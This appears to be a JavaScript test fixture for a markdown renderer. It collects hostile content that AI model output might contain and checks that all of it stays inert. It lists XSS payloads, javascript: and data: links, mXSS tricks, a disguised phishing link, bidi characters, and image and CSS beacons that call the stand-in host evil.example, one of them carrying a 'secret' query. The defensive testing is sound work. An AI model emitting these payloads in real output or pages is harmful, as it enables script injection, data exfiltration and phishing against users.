/** What hostile model output may hold (attack S26). All of it must stay inert text. */

/** A host that must never be asked for anything. */
const EVIL = "https://evil.example";

/** Markdown with one attack per paragraph. */
export const HOSTILE = [
  `<script>globalThis.hacked = "script"</script>`,
  `<img src="${EVIL}/raw.png" onerror="globalThis.hacked='onerror'">`,
  `![picture](${EVIL}/markdown.png?q=secret)`,
  `![ref][pic]`,
  `<svg onload="globalThis.hacked='svg'"><use href="${EVIL}/sprite.svg#a"/></svg>`,
  `<style>@import url("${EVIL}/style.css"); body { background: url(${EVIL}/bg.png) }</style>`,
  `<div style="background:url(${EVIL}/inline.png)" onclick="globalThis.hacked='click'">styled</div>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<base href="${EVIL}/"><link rel="stylesheet" href="${EVIL}/link.css"><link rel="prefetch" href="${EVIL}/prefetch">`,
  `<iframe src="${EVIL}/frame" srcdoc="<script>parent.hacked='frame'</script>"></iframe>`,
  `<object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
  `<form action="${EVIL}/form"><input name="q" autofocus onfocus="globalThis.hacked='focus'"><button>Send</button></form>`,
  `<video src="${EVIL}/video.mp4" poster="${EVIL}/poster.png" autoplay></video><audio src="${EVIL}/audio.mp3"></audio>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="globalThis.hacked='mxss'"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=globalThis.hacked='noscript'>">`,
  `[run](javascript:globalThis.hacked='link') [tab](java\tscript:alert(1)) [data](data:text/html,<script>alert(1)</script>)`,
  `[vb](vbscript:x) [file](file:///etc/passwd) [page](chrome://settings) [own](options.html) [blob](blob:${EVIL}/1)`,
  `<a href="javascript:globalThis.hacked='a'" ping="${EVIL}/ping">a</a> <javascript:alert(1)>`,
  `[https://bank.example](${EVIL}/phish)`,
  `bidi \u202eevil\u202c and \u2066isolate\u2069 and tag \u{e0041}\u{e0042}`,
  "```html\n<img src=x onerror=globalThis.hacked='code'>\n```",
  "```\"><img src=x onerror=globalThis.hacked='info'>\ncode\n```",
  "| <img src=x onerror=globalThis.hacked='cell'> | b |\n| --- | --- |\n| `<script>` | <b onmouseover=globalThis.hacked='b'>x</b> |",
  `[fine](https://docs.example.com/page "a title") and mail@example.com`,
  `[pic]: ${EVIL}/reference.png`,
].join("\n\n");
